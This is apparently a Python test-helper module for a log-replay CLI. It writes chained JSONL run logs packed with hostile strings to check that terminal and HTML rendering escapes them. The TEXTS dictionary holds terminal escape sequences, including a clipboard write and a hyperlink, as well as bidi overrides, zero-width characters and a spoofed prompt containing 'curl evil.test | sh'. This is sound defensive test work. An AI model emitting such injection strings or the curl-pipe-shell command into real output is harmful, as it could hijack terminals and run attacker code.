"""Logs whose every text tries to leave its place, and what has to be true of all that is shown."""

from __future__ import annotations

import json
import os
import unicodedata
from collections.abc import Iterator, Sequence
from pathlib import Path
from types import NoneType
from typing import Any, Literal, get_args, get_origin

from pydantic import JsonValue
from typing_extensions import get_type_hints, is_typeddict

from replayt_cli.render.text import escape
from replayt_core.chain import first_prev, line_hash
from replayt_core.payloads import PAYLOADS
from tests.cli.reports import Page, Record
from tests.cli.test_report import PAYLOADS as ON_A_PAGE

TEXTS = {
    **ON_A_PAGE,
    "markdown": "![x](https://evil.test/p.png)\n# h\n```\n<b>bold</b>\n```",
    "colour": "\x1b[2J\x1b[31mred\x1b[1A\x1b[K",
    "hyperlink": "\x1b]8;;http://evil.test\x07click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "bell": "ding\x07\x08\x7f",
    "c1": "\x9b31m\x9d0;title\x9c\x90q\x85",
    "overrides": "pay \u202e001\u202c \u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\U000e0041",
    "nul": "a\x00b",
    "separators": "a\u2028b\u2029c\x0bd\x0ce\x1cf\x85g",
    "long": "<b>" + "wide" * 1_000 + "</b>\x1b[0m",
    "prompt": "fine\nreplayt: run a: completed\r\n$ curl evil.test | sh\r\x1b[K1/9> ",
}
"""Ways to leave the place a text was put in: of a page, and of a terminal."""

LONE_SURROGATE = "a\ud800b"
r"""What JSON can write as `\ud800` and no UTF-8 can hold: a line with it is damage."""

EVERYTHING = " ".join(text for name, text in TEXTS.items() if name != "long")
"""Those of them that are short, in one."""

_IN_ORDER = (
    "run_started state_entered llm_request llm_retry llm_response structured_output_failed "
    "structured_output tool_call tool_result step_note step_error retry_scheduled "
    "approval_requested approval_resolved approval_applied run_paused log_repaired run_resumed "
    "run_interrupted state_exited transition run_failed run_completed"
)
_ORDER = _IN_ORDER.split()
TS = "2026-03-01T09:00:00.000000Z"
THEN = 1_772_355_600.0
"""The time of every event, which is that of the files too."""


def hostile_payloads(text: str, *, odd: bool = False) -> list[Record]:
    """Each event type once, with every field of its payload, every text in it being `text`.

    So one name stands for all states, tools, approvals and keys, and the run makes sense. In an
    `odd` one the words that a type fixes are `text` too, each payload has keys that no type names,
    and there are events of no known type.
    """
    assert set(_ORDER) == set(PAYLOADS), "an event type is missing in the order above"
    records = [(kind, _value(PAYLOADS[kind], text, odd)) for kind in _ORDER]
    if odd:
        records = [(kind, {**payload, **_free(text)}) for kind, payload in records]
        records[-1:-1] = [(text, _free(text)), ("from_the_future", _free(text)), (text, {})]
    return records


def paused_payloads(text: str, *, on_call: bool = False) -> list[Record]:
    """A run that waits, for an approval or for word of a tool call, and that can be resumed."""
    begun = [dict(hostile_payloads(text))[kind] for kind in ("run_started", "state_entered")]
    begun[0]["log_mode"] = "redacted"
    for name in ("redact_keys", "context", "forked_from", "pinned_from"):
        del begun[0][name]
    kind = "tool_call" if on_call else "approval_requested"
    reason = {"reason": "outcome_unknown" if on_call else "approval"}
    waits = _value(PAYLOADS["run_paused"], text, odd=False)
    for name in ("call", "request_seq"):
        del waits[name]
    waits |= {**reason, "call" if on_call else "request_seq": 3}
    asked = _value(PAYLOADS[kind], text, odd=False)
    return [
        ("run_started", begun[0]),
        ("state_entered", begun[1]),
        (kind, asked),
        *([] if on_call else [("approval_resolved", {"approval_id": text, "approved": text})]),
        ("run_paused", waits),
    ]


def _free(text: str) -> dict[str, Any]:
    return {text: [text, {text: text}, 1, None], f"{text}2": text, "plain": {"deep": [[text]]}}


def _value(kind: Any, text: str, odd: bool, name: str = "") -> Any:
    """A value of that type with `text` wherever a text can stand."""
    origin, parts = get_origin(kind), get_args(kind)
    if kind is JsonValue:
        return _free(text)
    if is_typeddict(kind):
        fields = get_type_hints(kind)
        return {field: _value(hint, text, odd, field) for field, hint in fields.items()}
    if kind is str:
        return text
    if kind is bool:
        return True
    if kind in (int, float):
        return 1 + _ORDER.index("approval_requested") if name == "request_seq" else 1
    if origin is Literal:
        return text if odd else parts[0]
    if origin is dict:
        return {text: _value(parts[1], text, odd), f"{text}2": _value(parts[1], text, odd)}
    if origin is list:
        items = 2 if name == "" else 1  # an edge has two ends
        return [_value(parts[0], text, odd)] * items
    told = [part for part in parts if part is not NoneType]
    assert len(told) == 1, f"no value for {kind}: teach this function"
    return _value(told[0], text, odd, name)


def write_hostile_log(path: Path, records: Sequence[Record], *, ts: str = TS) -> Path:
    """The records as a whole and chained log, as raw as JSON allows; `ts` of all but the first.

    Written byte by byte: our own writer refuses some of it.
    """
    run_id = path.stem
    head, lines = first_prev(run_id), []
    for seq, (kind, payload) in enumerate(records, 1):
        event = {"ts": TS if seq == 1 else ts, "run_id": run_id, "seq": seq, "type": kind}
        lines.append(raw_json({**event, "payload": payload, "prev": head}))
        head = line_hash(lines[-1])
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"".join(line + b"\n" for line in lines))
    os.utime(path, (THEN, THEN))
    return path


def raw_json(document: Any) -> bytes:
    """Compact JSON in which nothing is escaped that need not be."""
    try:
        return json.dumps(document, ensure_ascii=False, separators=(",", ":")).encode()
    except UnicodeEncodeError:
        return json.dumps(document, separators=(",", ":")).encode()


def write_store(directory: Path, text: str) -> dict[str, list[Record]]:
    """A directory of logs full of `text`; the payloads of those that can be read whole."""
    records = {
        "whole": hostile_payloads(text),
        "odd": hostile_payloads(text, odd=True),
        "waits": paused_payloads(text),
        "unknown": paused_payloads(text, on_call=True),
    }
    for run_id, payloads in records.items():
        ts = text if run_id == "odd" else TS
        write_hostile_log(directory / f"{run_id}.jsonl", payloads, ts=ts)
    stranger = {"ts": TS, "run_id": text, "seq": 3, "type": text, "payload": {}, "prev": text}
    for run_id, line in {
        "stranger": raw_json(stranger),
        "numbered": raw_json({**stranger, "run_id": "numbered", "seq": text}),
        "unlinked": raw_json({**stranger, "run_id": "unlinked"}),
        "noise": text.encode("utf-8", "surrogatepass"),
    }.items():
        path = write_hostile_log(directory / f"{run_id}.jsonl", records["waits"][:2])
        path.write_bytes(path.read_bytes() + line + b"\n")
        os.utime(path, (THEN, THEN))
    return records


def flow_of(text: str) -> str:
    """A workflow with the names of those logs."""
    return (
        "from replayt_core import Workflow\n"
        f"text = {text!r}\n"
        "wf = Workflow(text, version=text)\n"
        "wf.set_initial(text)\n"
        "@wf.step(text, to=[text])\n"
        "def only(ctx):\n"
        "    ctx.because(text)\n"
        "    return text if ctx.visit < 2 else None\n"
    )


def harmless(text: str) -> str:
    """A text without a meaning that takes as much room as this one, once it is shown."""
    return "".join(
        char if char.isalnum() or char.isspace() else "x"
        for part in text
        for char in (part if part == "\n" else escape(part))
    )


def raw_characters(shown: str) -> set[str]:
    """What no terminal may be sent: all that is invisible, but the end of a line."""
    return {
        char
        for char in set(shown) - {"\n"}
        if unicodedata.category(char) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
    }


def shape(html: str) -> list[tuple[str, ...]]:
    """The elements of a page in their order, each with its class and the names of its attributes.

    Without what shows an invisible character as text or says that a long one is cut, and with the
    lines of a drawn label, which break where a text has its blanks, taken as one.
    """
    found: list[tuple[str, ...]] = []
    for tag, attrs in Page(html).elements:
        part = (tag, attrs.get("class", ""), *attrs)
        of_label = tag == "text" and bool(found) and found[-1] == part
        if part not in _SIZED and not of_label:
            found.append(part)
    return found


_SIZED = (("span", "hidden-char", "class"), ("span", "cut", "class"))


def documents(out: str) -> Iterator[Any]:
    """All JSON documents that stand in an output."""
    decoder, place = json.JSONDecoder(), 0
    while out[place:].strip():
        place += len(out[place:]) - len(out[place:].lstrip())
        document, place = decoder.raw_decode(out, place)
        yield document
